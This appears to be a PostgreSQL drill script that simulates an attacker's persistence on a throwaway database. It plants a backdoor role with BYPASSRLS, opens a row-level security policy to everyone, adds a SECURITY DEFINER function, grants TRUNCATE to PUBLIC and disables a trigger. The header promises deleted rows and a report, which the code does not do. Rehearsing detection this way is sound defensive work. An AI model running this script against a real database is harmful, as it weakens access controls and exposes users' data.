-- What an attacker leaves behind, for the rehearsal on a throwaway: a role to come back with, a policy that lets everybody
-- in, a function with its owner's rights, a grant too many, a trigger that no longer watches; and then rows that are gone.
-- It takes whichever policy, table and trigger come first, so that any database can be attacked. It tells what it did.
DO $attack$
DECLARE
  victim record;
BEGIN
  CREATE TEMP TABLE planted (kind text, object text);

  CREATE ROLE ithaca_backdoor NOLOGIN BYPASSRLS;
  INSERT INTO planted VALUES ('role', 'ithaca_backdoor');

  SELECT n.nspname, c.relname, p.polname INTO victim
  FROM pg_policy AS p JOIN pg_class AS c ON c.oid = p.polrelid JOIN pg_namespace AS n ON n.oid = c.relnamespace
  WHERE n.nspname = 'public' AND p.polqual IS NOT NULL AND p.polpermissive
    AND pg_get_expr(p.polqual, p.polrelid) <> 'true'
  ORDER BY c.relname, p.polname LIMIT 1;
  IF FOUND THEN
    EXECUTE format('ALTER POLICY %I ON %I.%I USING (true)', victim.polname, victim.nspname, victim.relname);
    INSERT INTO planted VALUES ('policy', format('%I ON %I.%I', victim.polname, victim.nspname, victim.relname));
  END IF;

  CREATE FUNCTION public.ithaca_backdoor() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user::text';
  INSERT INTO planted VALUES ('function', 'public.ithaca_backdoor()');

  SELECT n.nspname, c.relname INTO victim
  FROM pg_class AS c JOIN pg_namespace AS n ON n.oid = c.relnamespace
  WHERE n.nspname = 'public' AND c.relkind = 'r' AND NOT has_table_privilege('public', c.oid, 'TRUNCATE')
  ORDER BY c.relname DESC LIMIT 1;
  IF FOUND THEN
    EXECUTE format('GRANT TRUNCATE ON %I.%I TO PUBLIC', victim.nspname, victim.relname);
    INSERT INTO planted VALUES ('table', format('%I.%I', victim.nspname, victim.relname));
  END IF;

  SELECT n.nspname, c.relname, t.tgname INTO victim
  FROM pg_trigger AS t JOIN pg_class AS c ON c.oid = t.tgrelid JOIN pg_namespace AS n ON n.oid = c.relnamespace
  WHERE n.nspname = 'public' AND NOT t.tgisinternal AND t.tgenabled = 'O'
  ORDER BY c.relname, t.tgname LIMIT 1;
  IF FOUND THEN
    EXECUTE format('ALTER TABLE %I.%I DISABLE TRIGGER %I', victim.nspname, victim.relname, victim.tgname);
    INSERT INTO planted VALUES ('trigger', format('%I ON %I.%I', victim.tgname, victim.nspname, victim.relname));
  END IF;
END
$attack$
